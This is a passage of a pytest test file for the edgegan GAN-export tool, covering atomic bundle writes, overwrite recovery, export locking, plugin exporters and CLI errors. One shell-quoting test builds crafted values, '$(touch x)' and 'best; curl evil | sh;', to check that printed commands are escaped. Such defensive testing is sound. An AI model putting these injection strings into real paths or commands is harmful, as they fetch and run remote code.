    deep = runs["uncond"].parent / "new" / "a" / "bundle"
    with pytest.raises(ExportError):
        export(runs["uncond"], out=deep)
    assert not (runs["uncond"].parent / "new").exists()  # the folders it made are gone too


def test_a_full_disk_during_an_export_names_the_bundle_and_writes_nothing(runs, monkeypatch):
    """A full disk's write names no file: the line read "error: No space left on device"."""
    import errno

    from edgegan.export import api

    def full(path, meta):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(api, "write_bundle", full)
    out = runs["uncond"].parent / "full-bundle"
    with pytest.raises(OSError) as info:
        export(runs["uncond"], out=out)
    assert info.value.errno == errno.ENOSPC and info.value.filename == str(out)
    assert not out.exists()

    def timed_out(path, meta):  # no errno: its message stays (it read "[Errno None] None: ...")
        raise TimeoutError("the network disk did not answer")

    monkeypatch.setattr(api, "write_bundle", timed_out)
    with pytest.raises(TimeoutError) as info:
        export(runs["uncond"], out=out)
    assert str(info.value) == "the network disk did not answer"
    assert not [p for p in out.parent.iterdir() if p.name.startswith(".full-bundle")]


def test_an_export_removes_what_killed_exports_left_and_runs_one_at_a_time(
    runs, tmp_path, monkeypatch
):
    """kill -9 during an export left `.NAME.tmp-HOST-PID` folders (graphs of megabytes) that no
    later export removed; two exports in threads left every warning silenced for good."""
    from edgegan.export import api

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()  # fmt: skip
    import socket

    host = socket.gethostname()
    dead = tmp_path / f".b.tmp-{host}-{gone}"
    (dead / "sub").mkdir(parents=True)
    (dead / "model.onnx").write_bytes(b"half")
    live = tmp_path / f".b.tmp-{host}-{os.getppid()}"  # a running export's: kept
    live.mkdir()
    elsewhere = tmp_path / f".b.tmp-{host}x-{gone}"  # another host's (a shared disk): kept
    elsewhere.mkdir()
    import threading

    held = []
    real = api._gan_graphs

    def taken_elsewhere() -> bool:
        """Whether another thread finds the export lock taken."""
        got = []

        def probe() -> None:
            got.append(api._EXPORTING.acquire(blocking=False))
            if got[0]:
                api._EXPORTING.release()

        thread = threading.Thread(target=probe)
        thread.start()
        thread.join()
        return not got[0]

    def spy(*args, **kwargs):
        held.append(taken_elsewhere())
        return real(*args, **kwargs)

    monkeypatch.setattr(api, "_gan_graphs", spy)
    export(runs["uncond"], out=tmp_path / "b")
    assert not dead.exists() and live.is_dir() and elsewhere.is_dir() and held == [True]
    assert not taken_elsewhere()
    # the lock is re-entrant: an export started from a progress callback (in the same
    # thread) runs rather than waiting for ever on the one that called it
    inner = []

    def progress(line: str) -> None:
        if not inner:
            inner.append(export(runs["uncond"], out=tmp_path / "inner"))

    outer = threading.Thread(target=export, args=(runs["uncond"],), daemon=True,  # (a hang)
                             kwargs={"out": tmp_path / "outer", "progress": progress})  # fmt: skip
    outer.start()
    outer.join(timeout=60)
    assert not outer.is_alive() and inner and (tmp_path / "outer" / BUNDLE_FILE).is_file()


def test_non_empty_out_is_refused_unless_overwrite(runs, tmp_path):
    out = tmp_path / "b"
    export(runs["uncond"], out=out)
    (out / "keep.txt").write_text("x")  # an old bundle, with a file of the user's
    with pytest.raises(EdgeganError, match="is not empty; choose another folder or pass"):
        export(runs["uncond"], out=out)
    assert (out / "keep.txt").exists()
    meta = export(runs["uncond"], out=out, overwrite=True)
    assert not (out / "keep.txt").exists() and read_bundle(out) == meta
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b"]


def test_a_bundle_left_aside_by_a_killed_overwrite_is_named_and_put_back(runs, tmp_path):
    """export --overwrite renames the old bundle away, then the new one in: killed between
    the two, no bundle was at --out ('run directory not found'), and nothing said where the
    old one had gone."""
    import socket
    import subprocess
    import sys

    from edgegan.runtime import open_runner

    out = tmp_path / "b"
    export(runs["uncond"], out=out)
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()  # fmt: skip
    aside = tmp_path / f".b.old-{socket.gethostname()}-{gone}"
    out.rename(aside)
    with pytest.raises(EdgeganError, match=f"left the previous bundle at {aside}: rename it"):
        open_runner(out, "onnxruntime")
    with pytest.warns(UserWarning, match=f"previous bundle at {aside}: put back at"):
        with pytest.raises(EdgeganError, match="not empty"):  # back, and kept: no --overwrite
            export(runs["uncond"], out=out)
    assert not aside.exists()
    with open_runner(out, "onnxruntime"):
        pass
    # One an older edgegan left (.NAME.old-PID) is put back too.
    shutil_move = __import__("shutil").move
    legacy = tmp_path / f".b.old-{gone}"
    shutil_move(out, legacy)
    with pytest.warns(UserWarning, match=f"previous bundle at {legacy}: put back at"):
        with pytest.raises(EdgeganError, match="not empty"):
            export(runs["uncond"], out=out)
    assert not legacy.exists() and out.is_dir()
    # Another machine's (a shared disk): its pid means nothing here, so it is left alone.
    theirs = tmp_path / f".b.old-elsewhere-{gone}"
    theirs.mkdir()
    export(runs["uncond"], out=out, overwrite=True)
    assert theirs.is_dir()


def test_overwrite_replaces_only_a_bundle_never_a_run(runs, tmp_path):
    import shutil

    run = tmp_path / "run"
    shutil.copytree(runs["uncond"], run, ignore=shutil.ignore_patterns("export"))
    before = sorted(p.relative_to(run) for p in run.rglob("*"))
    for out, error in [
        (run, "holds the run being exported"),
        (tmp_path, "holds the run being exported"),  # a folder of runs
    ]:
        with pytest.raises(EdgeganError, match=error):
            export(run, out=out, overwrite=True)
    other = tmp_path / "other-run"
    shutil.copytree(run, other)
    with pytest.raises(EdgeganError, match="holds files but no bundle .*replaces only a bundle"):
        export(run, out=other, overwrite=True)
    assert sorted(p.relative_to(run) for p in run.rglob("*")) == before
    assert (other / "checkpoints/last.pt").is_file()


def test_out_may_be_the_empty_working_directory(runs, tmp_path, monkeypatch):
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    meta = export(runs["uncond"], out=".")
    assert read_bundle(here) == meta and (here / "model.onnx").is_file()
    assert Path.cwd() == here and sorted(p.name for p in tmp_path.iterdir()) == ["here"]
    assert not [p for p in here.iterdir() if p.name.startswith(".")]  # no mark left


def test_an_empty_out_another_process_writes_into_is_refused(runs, tmp_path):
    """Two exports into one existing empty folder moved their files in one by one, mixed:
    each marks the folder while its files move in, as infer does."""
    import socket
    import subprocess
    import sys

    from edgegan.fileio import WRITING

    out = tmp_path / "mnt"
    out.mkdir()
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        mark = out / f".{WRITING}.{sleeper.pid}-0a0b0c0d.tmp"
        mark.write_text(f"{socket.gethostname()} {sleeper.pid}\n")
        with pytest.raises(
            EdgeganError, match=f"^--out {out} is being written into by another process"
        ):
            export(runs["uncond"], out=out)
        assert [p.name for p in out.iterdir()] == [mark.name]  # nothing moved in
    finally:
        sleeper.kill()
        sleeper.wait()
    meta = export(runs["uncond"], out=out)  # its writer gone: the mark is a dead one's
    assert read_bundle(out) == meta and not list(out.glob(".*"))


def test_a_folder_holding_only_the_desktops_metadata_counts_as_empty(runs, tmp_path):
    """A folder opened in Finder holds .DS_Store (Explorer: Thumbs.db): `ls` shows it empty,
    yet export refused it even with --overwrite ("holds files but no bundle"), as train and
    infer refused it as --out."""
    from edgegan.train.logs import new_run_dir

    out = tmp_path / "b"
    out.mkdir()
    for name in (".DS_Store", "._.DS_Store", "Thumbs.db"):
        (out / name).write_bytes(b"\0\0\0\1Bud1")
    meta = export(runs["uncond"], out=out)
    assert read_bundle(out) == meta and (out / ".DS_Store").is_file()
    run = tmp_path / "run"
    run.mkdir()
    (run / ".DS_Store").write_bytes(b"Bud1")
    assert new_run_dir(run, "x") == run
    (run / "notes.txt").write_text("mine")  # anything else is still refused
    with pytest.raises(EdgeganError, match="holds files but no bundle"):
        export(runs["uncond"], out=run, overwrite=True)


def test_not_a_gan_run_is_one_line_error(runs, tmp_path):
    with pytest.raises(EdgeganError, match="run directory not found"):
        export(tmp_path / "missing")
    with pytest.raises(EdgeganError, match="no checkpoints/last.pt"):
        export(tmp_path)
    other = tmp_path / "other"
    (other / "checkpoints").mkdir(parents=True)
    state = torch.load(runs["uncond"] / "checkpoints/last.pt", weights_only=True)
    state["spec"]["task"] = "inpaint"  # a task of a plugin, say: no exporter knows it
    torch.save(state, other / "checkpoints/last.pt")
    with pytest.raises(EdgeganError, match="is a 'inpaint' run; .* gan, cyclegan and pix2pix"):
        export(other)
    with pytest.raises(EdgeganError, match="--direction applies to cyclegan and pix2pix runs"):
        export(runs["uncond"], out=tmp_path / "d", directions=["AtoB"])
    came = re.escape(f"give the run it came from ({runs['uncond'].resolve()}) (--trt builds")
    export(runs["uncond"], out=tmp_path / "bundle")
    with pytest.raises(EdgeganError, match="is an export bundle, not a run directory; " + came):
        export(tmp_path / "bundle")


# -- CLI -----------------------------------------------------------------------------------------
def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "edgegan", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "OMP_NUM_THREADS": "1"},
        timeout=300,
    )


def test_direction_on_an_exported_gan_run_is_the_runs_one_line(uncond_bundle, runs, tmp_path):
    """It warned that the run's bundle is not used, then refused the run for the same reason."""
    run = runs["uncond"]
    result = _cli("infer", str(run), "--direction", "AtoB", "--input", str(run), "--out", "o")
    assert result.returncode == 2
    assert result.stderr == (
        f"error: {run} is a 'gan' run; --direction needs a cyclegan or pix2pix run\n"
    )


def test_input_given_to_sample_a_gan_names_input_as_the_slip(uncond_bundle, tmp_path):
    """It said "--num ... sample GANs; translations are PNG" to a user sampling a GAN."""
    bundle, _ = uncond_bundle
    from click.testing import CliRunner

    from edgegan.cli import cli

    args = ["infer", str(bundle), "--input", str(tmp_path), "--num", "4"]
    result = CliRunner().invoke(cli, [*args, "--out", str(tmp_path / "o")])
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: {bundle} is a gan bundle: it samples (--num, --labels, --seed, "
        "--format); --input and --direction translate with a cyclegan or pix2pix\n"
    )


def test_cli_export_end_to_end(runs, tmp_path):
    out = tmp_path / "bundle"
    proc = _cli("export", str(runs["cond"]), "--onnx", "--fp16", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0].split()[:3] == ["precision", "file", "size"]
    assert [ln.split()[0] for ln in lines[1:3]] == ["fp32", "fp16"]
    assert read_bundle(out)["models"].keys() == {"fp32", "fp16"}
    progress = [ln.split(" done in ")[0] for ln in proc.stderr.splitlines() if " done in " in ln]
    assert progress == ["export: model.onnx", "export: model.fp16.onnx"], proc.stderr
    assert "parity" in proc.stderr
    again = _cli("export", str(runs["cond"]), "--out", str(out))
    assert again.returncode == 2 and again.stderr.count("\n") == 1
    assert "is not empty" in again.stderr
    # --exporter: torch's legacy exporter (seconds faster to export), recorded per graph
    legacy = _cli("export", str(runs["cond"]), "--exporter", "legacy", "--out", str(tmp_path / "l"))
    assert legacy.returncode == 0, legacy.stderr
    assert read_bundle(tmp_path / "l")["models"]["fp32"]["exporter"] == "legacy"
    assert read_bundle(out)["models"]["fp32"]["exporter"] == "dynamo"


# -- exporter plugins beside the graphs (--with) ------------------------------------------------
class _NpzExporter:
    """Writes the generator's weights as .npz (a stand-in for a TFLite/CoreML converter)."""

    def __init__(self, compressed: bool = False, prefix: str = "weights", tag=None):
        self.compressed, self.prefix = compressed, prefix

    def export(self, generator, spec, out_dir):
        name = f"{self.prefix}_{spec['direction']}" if spec.get("direction") else self.prefix
        state = {k: v.detach().cpu().numpy() for k, v in generator.state_dict().items()}
        (np.savez_compressed if self.compressed else np.savez)(Path(out_dir) / name, **state)
        return {"file": f"{name}.npz", "tensors": len(state), "compressed": self.compressed}


class _ArtifactPlugin:
    from edgegan import hookimpl

    @hookimpl
    def edgegan_register_exporters(self, register):
        register("weights-npz", _NpzExporter)
        register("not-a-dict", lambda: type("X", (), {"export": lambda s, g, sp, o: ["x"]})())
        register("raises", lambda: type("Y", (), {"export": lambda s, g, sp, o: 1 / 0})())
        nan = {"file": None, "psnr": float("nan")}
        register("nan", lambda: type("N", (), {"export": lambda s, g, sp, o: nan})())

        def lines(*args):
            raise RuntimeError("boom\nsecond line")

        register("raises-lines", lambda: type("Z", (), {"export": lambda s, g, sp, o: lines()})())
        path = {"sizes": [1, {"file": Path("w.pt")}]}
        register("path", lambda: type("P", (), {"export": lambda s, g, sp, o: path})())


def artifact_plugin() -> None:
    from edgegan.plugins.manager import PluginManager, reset_manager

    manager = PluginManager(load_entry_points=False)
    manager.register(_ArtifactPlugin(), name="art", distribution="edgegan-art", version="1.0")
    reset_manager(manager)


def test_exporter_plugin_runs_beside_the_graphs(runs, tmp_path):
    artifact_plugin()
    out = tmp_path / "b"
    meta = export(runs["uncond"], out=out, artifacts=["weights-npz"])
    report = meta["artifacts"]["weights-npz"]
    assert report["file"] == "weights.npz" and read_bundle(out)["artifacts"] == meta["artifacts"]
    saved = np.load(out / "weights.npz")
    generator = load_run_generator(runs["uncond"], device="cpu", ema=True).module
    assert len(saved.files) == report["tensors"] == len(generator.state_dict())
    assert "artifacts" not in export(runs["uncond"], out=tmp_path / "plain")
    # The command bench and infer suggest to write the bundle again keeps the artifact (it
    # dropped it, and --overwrite deleted weights.npz).
    from edgegan.export.bundle import export_command

    again = export_command(out, meta)
    assert " --with weights-npz " in again and again.endswith(f"--out {out} --overwrite")


def test_an_exporters_nan_is_written_as_null(runs, tmp_path):
    """edgegan.json is strict JSON: a plugin's NaN used to fail the export at its very end."""
    artifact_plugin()
    export(runs["uncond"], out=tmp_path / "b", artifacts=["nan"])
    text = (tmp_path / "b" / "edgegan.json").read_text()
    assert "NaN" not in text
    assert read_bundle(tmp_path / "b")["artifacts"]["nan"] == {"file": None, "psnr": None}


def test_exporter_plugin_parameters(runs, tmp_path):
    """--with-param NAME.KEY=VALUE: the exporter's factory gets it (exporters took only their
    defaults), the bundle records it and the command that writes it again repeats it."""
    from edgegan.export.bundle import export_command

    artifact_plugin()
    out = tmp_path / "b"
    res = CliRunner().invoke(
        cli,
        ["export", str(runs["uncond"]), "--with", "weights-npz", "--out", str(out),
         "--with-param", "weights-npz.compressed=true", "--with-param", "weights-npz.prefix=w 2",
         "--with-param", "weights-npz.tag=ü😀"],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    meta = read_bundle(out)
    assert meta["artifacts"]["weights-npz"]["compressed"] is True
    assert meta["artifact_params"] == {
        "weights-npz": {"compressed": True, "prefix": "w 2", "tag": "ü😀"}
    }
    with np.load(out / "w 2.npz") as saved:  # written by savez_compressed: deflated members
        assert saved.zip.infolist()[0].compress_type == 8
    again = export_command(out, meta)
    assert " --with weights-npz --with-param weights-npz.compressed=true " in again
    assert " --with-param 'weights-npz.prefix=\"w 2\"' " in again
    # the command runs and writes the same bundle
    args = shlex.split(again)[1:]
    assert CliRunner().invoke(cli, args).exit_code == 0
    assert read_bundle(out)["artifact_params"] == meta["artifact_params"]
    assert "artifact_params" not in export(runs["uncond"], out=tmp_path / "p", artifacts=["nan"])


@pytest.mark.parametrize(
    "args, error",
    [
        (["--with-param", "weights-npz.compresed=true"], "unknown parameter 'compresed' for "
         r"exporter 'weights-npz' \(did you mean 'compressed'\?\); accepted: compressed, "
         "prefix, tag"),
        (["--with-param", "weights-npz.compressed=3"], "parameter 'compressed' of exporter "
         "'weights-npz' must be bool, got int 3"),
        (["--with-param", "nan.x=1"], r"--with-param nan.\*: 'nan' is not an exporter asked for "
         r"with --with \(asked for: weights-npz\)"),
        (["--with-param", "compressed=true"], "--with-param takes NAME.KEY=VALUE .*got "
         "'compressed=true'"),
        (["--with-param", "weights-npz.prefix"], "--with-param takes NAME.KEY=VALUE"),
        (["--with-param", "weights-npz.prefix=a", "--with-param", "weights-npz.prefix=b"],
         "--with-param weights-npz.prefix is given twice"),
        # YAML reads a date: the bundle's JSON could not record it, after the whole export
        (["--with-param", "weights-npz.tag=2024-01-01"],
         "--with-param weights-npz: 'tag' is a date, which edgegan.json cannot hold"),
    ],
)  # fmt: skip
def test_exporter_parameter_errors_come_first(runs, tmp_path, args, error):
    """A misspelt, mistyped or misplaced parameter is one line before any graph is exported
    (the exporters run last, after minutes of INT8 calibration)."""
    artifact_plugin()
    res = CliRunner().invoke(
        cli, ["export", str(runs["uncond"]), "--with", "weights-npz", "--out", str(tmp_path / "b"),
              *args],
    )  # fmt: skip
    assert res.exit_code == 2, res.output
    assert re.search(error, res.output), res.output
    assert "export:" not in res.output  # no graph was begun
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "name, error",
    [
        ("weights-npy", "unknown exporter 'weights-npy' \\(did you mean 'weights-npz'\\?\\)"),
        ("onnx-fp16", "'onnx-fp16' writes the bundle's ONNX graphs; ask for them with --fp16"),
        ("not-a-dict", "exporter 'not-a-dict' \\(plugin 'art', edgegan-art 1.0\\) returned list"),
        ("raises", "exporter 'raises' \\(plugin 'art', edgegan-art 1.0\\) failed: ZeroDivision"),
        ("raises-lines", "\\(plugin 'art', edgegan-art 1.0\\) failed: RuntimeError: boom$"),
        # it said "returned dict; ... must return a JSON-serialisable dict"
        ("path", "returned a dict whose 'sizes\\[1\\].file' is a PosixPath; export\\(\\) must"),
    ],
)
def test_exporter_plugin_errors_write_nothing(runs, tmp_path, name, error):
    artifact_plugin()
    with pytest.raises(EdgeganError, match=error):
        export(runs["uncond"], out=tmp_path / "b", artifacts=[name])
    assert list(tmp_path.iterdir()) == []


def test_an_export_into_a_folder_it_cannot_rename_into_is_refused_first(
    runs, tmp_path, monkeypatch
):
    """The bundle is built beside --out and renamed into place: its parent must be writable
    (as root, os.access stands in for a read-only folder)."""
    import os

    ro = tmp_path / "ro"
    (ro / "out").mkdir(parents=True)
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: Path(p) != ro and real(p, mode))
    with pytest.raises(EdgeganError, match=f"--out {ro / 'out'}: {ro} is not writable"):
        export(runs["uncond"], out=ro / "out")
    assert list((ro / "out").iterdir()) == []


def test_weights_digest_covers_tensors_and_skips_extra_state():
    """A module with get_extra_state (a dict) crashed the export in the digest."""
    from edgegan.export.bundle import weights_digest

    class Extra(torch.nn.Linear):
        def get_extra_state(self):
            return {"note": "kept aside"}

        def set_extra_state(self, state):
            pass

    torch.manual_seed(0)
    a, b = Extra(3, 2), Extra(3, 2)
    b.load_state_dict(a.state_dict())
    assert weights_digest(a) == weights_digest(b)
    with torch.no_grad():
        b.weight[0, 0] += 1e-6
    assert weights_digest(a) != weights_digest(b)


def test_fold_batchnorm_scales_a_convolutions_own_bias():
    """mutation testing: folding added a convolution's bias unscaled by BatchNorm's
    ``gamma / sqrt(var + eps)`` (the built-in generators' convs before BatchNorm have no
    bias, so only plugin generators' graphs would be wrong) and it passed the suite."""
    from torch import nn

    torch.manual_seed(0)
    for conv in (nn.Conv2d(3, 4, 3, padding=1), nn.ConvTranspose2d(3, 4, 4, 2, 1)):
        net = nn.Sequential(conv, nn.BatchNorm2d(4))
        with torch.no_grad():
            conv.bias.uniform_(-2.0, 2.0)
            net[1].running_mean.uniform_(-1.0, 1.0)
            net[1].running_var.uniform_(0.1, 0.5)
            net[1].weight.uniform_(0.5, 2.0)
            net[1].bias.uniform_(-1.0, 1.0)
        net.eval()
        folded, n = fold_batchnorm(net)
        assert n == 1 and isinstance(folded[1], nn.Identity)
        x = torch.randn(2, 3, 6, 6)
        with torch.no_grad():
            torch.testing.assert_close(folded(x), net(x), rtol=1e-5, atol=1e-5)


def test_add_metadata_keeps_other_keys_and_replaces_its_own():
    """mutation testing: ``add_metadata`` dropping every earlier ``metadata_props`` entry (a
    user's or a tool's own keys lost when edgegan stamps a graph) passed the suite."""
    from onnx import TensorProto, helper

    from edgegan.export.onnx import add_metadata

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g", [x], [])
    graph.output.append(helper.make_tensor_value_info("y", TensorProto.FLOAT, [1]))
    model = helper.make_model(graph)
    helper.set_model_props(model, {"author": "me", "edgegan.task": "old"})
    add_metadata(model, {"task": "gan", "latent_dim": 8}, {"edgegan.precision": "fp32"})
    props = [(p.key, p.value) for p in model.metadata_props]
    assert ("author", "me") in props
    assert [v for k, v in props if k == "edgegan.task"] == ["gan"]
    assert read_metadata(model)["edgegan.spec"] == {"task": "gan", "latent_dim": 8}


def test_fold_batchnorm_leaves_a_batchnorm_on_batch_statistics_alone():
    """mutation testing: folding a BatchNorm whose ``track_running_stats`` was turned off
    after training (eval then normalises with the batch's statistics, which no weight can
    hold) passed the suite."""
    from torch import nn

    net = nn.Sequential(nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2))
    net[1].track_running_stats = False  # its running buffers stay, unused
    folded, n = fold_batchnorm(net)
    assert n == 0 and isinstance(folded[1], nn.BatchNorm2d)


def test_signature_mismatch_names_a_dimension_the_graph_and_bundle_disagree_on():
    """mutation testing: ``signature_mismatch`` ignoring the numbered dimensions (a graph of
    28x28 images run from a bundle that says 32x32, its images read with the wrong shape)
    passed the suite."""
    from types import SimpleNamespace as NS

    from edgegan.runtime.ort_runner import signature_mismatch

    spec = {"task": "gan", "latent_dim": 8, "num_classes": 0, "image_shape": [1, 32, 32]}

    def session(latent, image):
        return NS(
            get_inputs=lambda: [NS(name="z", shape=["batch", latent])],
            get_outputs=lambda: [NS(name="image", shape=["batch", *image])],
        )

    assert signature_mismatch(session(8, [1, 32, 32]), spec) is None
    assert "'image' is [batch, 1, 28, 28]" in signature_mismatch(session(8, [1, 28, 28]), spec)
    assert "'z'" in signature_mismatch(session(16, [1, 32, 32]), spec)


def test_newer_than_runtime_names_the_highest_opset_the_runtime_reads():
    """mutation testing: the opset message giving the domain (``reads up to ai.onnx``)
    instead of the runtime's highest opset passed the suite."""
    from edgegan.runtime.ort_runner import newer_than_runtime

    message = (
        "Opset 22 is under development and support for this is limited. The operator schemas "
        "and or other functionality may change before next ONNX release and in this case ONNX "
        "Runtime will not guarantee backward compatibility. Current official support for "
        "domain ai.onnx is till opset 21."
    )
    assert newer_than_runtime(message) == "the graph is opset 22, it reads up to 21"
    ir = "Unsupported model IR version: 11, max supported IR version: 10"
    assert newer_than_runtime(ir) == "the graph is ONNX IR version 11, it reads up to 10"
    assert newer_than_runtime("something else") == ""


# -- mutation testing, round 5: export arguments, metadata and bundle helpers --------------------
def test_calib_samples_and_opset_are_checked_at_their_limits(runs, tmp_path):
    import re

    from edgegan.export.onnx import MAX_OPSET, MIN_OPSET

    for kwargs, message in [
        ({"calib_samples": 0}, "--calib-samples must be at least 1, got 0"),
        ({"opset": MIN_OPSET - 1}, f"--opset must be between {MIN_OPSET} and {MAX_OPSET}, got"),
        ({"opset": MAX_OPSET + 1}, f"--opset must be between {MIN_OPSET} and {MAX_OPSET}, got"),
    ]:
        with pytest.raises(EdgeganError, match=re.escape(message)):
            export(runs["uncond"], out=tmp_path / "b", **kwargs)
        assert not (tmp_path / "b").exists()
    meta = export(runs["uncond"], out=tmp_path / "b", opset=MAX_OPSET, exporter="legacy")
    assert meta["models"]["fp32"]["opset"] == MAX_OPSET


@pytest.mark.parametrize(
    "args, says",
    [
        (["--min-batch", "0", "--workspace-gb", "-1"],
         "--workspace-gb, --min-batch set the --trt build: give --trt too"),
        (["--max-size", "4"], "--max-size sets the --trt build: give --trt too"),
        (["--calib-samples", "5", "--fp16"],
         "--calib-samples sets the --int8 build: give --int8 too"),
    ],
)  # fmt: skip
def test_options_of_a_build_not_asked_for_are_refused(runs, tmp_path, args, says):
    """They were ignored without a word (and their values never checked)."""
    from click.testing import CliRunner

    from edgegan.cli import cli

    res = CliRunner().invoke(cli, ["export", str(runs["uncond"]), "--out", str(tmp_path / "b"),
                                   *args])  # fmt: skip
    assert res.exit_code == 2 and res.stderr == f"error: {says}\n", res.output
    assert not (tmp_path / "b").exists()


def test_a_run_without_an_ema_records_its_generator_weights(tmp_path):
    run = _train(tmp_path / "run", "train.ema=false", "train.steps=1")
    meta = export(run, out=tmp_path / "b", exporter="legacy")
    assert meta["source"]["weights"] == "generator"
    assert read_bundle(tmp_path / "b")["source"]["weights"] == "generator"


def test_an_artifact_report_whose_keys_json_cannot_hold_is_the_plugins_error(tmp_path):
    """A tuple key failed the export at its very end (json.dumps: 'keys must be str')."""
    from edgegan import hookimpl
    from edgegan.errors import PluginError
    from edgegan.export.api import run_artifact_exporters
    from edgegan.plugins.manager import PluginManager, reset_manager

    class Plugin:
        @hookimpl
        def edgegan_register_exporters(self, register):
            report = {"sizes": {(1, 2): "w.npz"}}
            register("tuple-key", lambda: type("T", (), {"export": lambda s, g, sp, o: report})())

    manager = PluginManager(load_entry_points=False)
    manager.register(Plugin(), name="tk", distribution="edgegan-tk", version="1.0")
    reset_manager(manager)
    with pytest.raises(
        PluginError, match=r"'tuple-key' .* returned a dict whose key \(1, 2\) is a tuple"
    ):
        run_artifact_exporters({"tuple-key": {}}, torch.nn.Identity(), {}, tmp_path)


def test_the_latest_bundle_left_aside_is_the_one_put_back(tmp_path):
    """Two killed --overwrite exports left two old bundles: the newer is the previous one."""
    import re
    import socket

    from edgegan.export.api import restore_set_aside

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()  # fmt: skip
    older, newer = tmp_path / f".b.old-{gone}", tmp_path / f".b.old-{socket.gethostname()}-{gone}"
    for i, folder in enumerate((older, newer)):
        folder.mkdir()
        (folder / BUNDLE_FILE).write_text(folder.name)
        os.utime(folder, (1_700_000_000 + i * 100, 1_700_000_000 + i * 100))
    out = tmp_path / "b"
    with pytest.warns(UserWarning, match=f"previous bundle at {re.escape(str(newer))}: put back"):
        restore_set_aside(out)
    assert (out / BUNDLE_FILE).read_text() == newer.name and older.is_dir()
    # a bundle at out (another export's): the one left aside is named, not left in silence
    with pytest.warns(UserWarning, match=f"left an earlier bundle of {re.escape(str(out))} at "
                      f"{re.escape(str(older))}; remove it"):  # fmt: skip
        restore_set_aside(out)
    assert older.is_dir() and (out / BUNDLE_FILE).read_text() == newer.name


def test_the_command_to_export_a_bundle_again_keeps_its_directions():
    """A bundle of both directions is written again whole; one exported with --direction
    keeps it (an --overwrite of the whole folder with one direction would lose the other)."""
    from edgegan.export.bundle import export_command

    graphs = {"fp32": {"file": "x.onnx"}, "fp16": {"file": "x.fp16.onnx"}}
    both = {"task": "cyclegan", "directions": ["AtoB", "BtoA"], "source": {"run_dir": "/r"},
            "models": {"AtoB": graphs, "BtoA": graphs}}  # fmt: skip
    assert export_command("/b", both) == "edgegan export /r --fp16 --out /b --overwrite"
    one = {**both, "directions": ["BtoA"], "models": {"BtoA": graphs}}
    assert export_command("/r/export", one, "int8") == (
        "edgegan export /r --fp16 --int8 --direction BtoA --overwrite"
    )
    # every part from the bundle shell-quoted: a bundle from elsewhere printed a command that
    # ran what its run_dir or checkpoint held, and a path with a space broke it
    crafted = {
        **both,
        "source": {"run_dir": "/r$(touch x)", "checkpoint": "best; curl evil | sh;"},
        "artifacts": {"a b": {}},
    }
    assert export_command("/my bundle", crafted) == (
        "edgegan export '/r$(touch x)' --fp16 --with 'a b' --checkpoint 'best; curl evil | sh;' "
        "--out '/my bundle' --overwrite"
    )


def test_the_export_summary_table_is_aligned_without_trailing_spaces():
    from edgegan.export.api import format_table

    rows = [("precision", "file", "PSNR dB"), ("fp32", "model.onnx", "120.5"), ("int8", "m", "-")]
    assert format_table(rows) == (
        "precision  file        PSNR dB\nfp32       model.onnx  120.5\nint8       m           -"
    )


def test_an_export_reads_the_checkpoint_once(runs, tmp_path, monkeypatch):
    """The spec, the weights and the step come from one read of the checkpoint (a run's
    last.pt of a 256x256 CycleGAN holds optimiser states too: hundreds of MB)."""
    loads = count_checkpoint_loads(monkeypatch)
    meta = export(runs["uncond"], out=tmp_path / "b")
    assert loads == ["last.pt"] and meta["source"]["step"] > 0


# -- mutation testing, round 6: the checkpoint read once ---------------------------------------
def test_an_export_of_a_named_checkpoint_names_it_when_it_cannot_be_read(runs, tmp_path):
    """The weights come from the checkpoint _load_spec read; what is wrong with it is said of
    that file (checkpoints/odd.pt), not of last.pt."""
    run = copy_with_a_newer_checkpoint(runs["uncond"], tmp_path / "run")
    with pytest.raises(EdgeganError, match=r"checkpoints/odd\.pt: .*newer_switch"):
        export(run, out=tmp_path / "b", checkpoint="odd")


def test_a_run_kept_as_a_named_checkpoint_alone_exports_it(runs, tmp_path):
    """A run whose last.pt was removed (kept as best.pt, say) was "not a run directory"
    even with --checkpoint best; without it, the error names the checkpoints it has."""
    import shutil

    run = tmp_path / "run"
    shutil.copytree(runs["uncond"], run)
    (run / "checkpoints" / "last.pt").rename(run / "checkpoints" / "best.pt")
    with pytest.raises(
        EdgeganError,
        match=f"^{run} is not a run directory: no checkpoints/last.pt \\(it has best: pass "
        "--checkpoint NAME\\)$",
    ):
        export(run, out=tmp_path / "b")
    with pytest.raises(EdgeganError, match="no checkpoint 'other' in .* \\(it has: best\\)"):
        export(run, out=tmp_path / "b", checkpoint="other")
    assert not (tmp_path / "b").exists()
    meta = export(run, out=tmp_path / "b", checkpoint="best")
    assert meta["source"]["checkpoint"] == "best" and (tmp_path / "b" / "model.onnx").is_file()


def test_an_empty_mount_point_as_out_gets_the_bundle_copied_in(runs, tmp_path, monkeypatch):
    """The bundle is built beside --out and renamed into it: an empty mount point (a docker
    volume, a card) is another device, and the export failed at its very end with 'Invalid
    cross-device link'; one holding a bundle cannot be renamed to replace it (EBUSY)."""
    import errno

    from edgegan.export import api

    out = tmp_path / "mnt"
    out.mkdir()
    monkeypatch.setattr(api, "_same_device", lambda a, b: Path(b) != out)
    # a copy that fails halfway (a full card) takes back every file: out stays empty
    real_copy, calls = shutil.copy2, []

    def full(src, dst, *args, **kwargs):
        calls.append(dst)
        if len(calls) == 2:
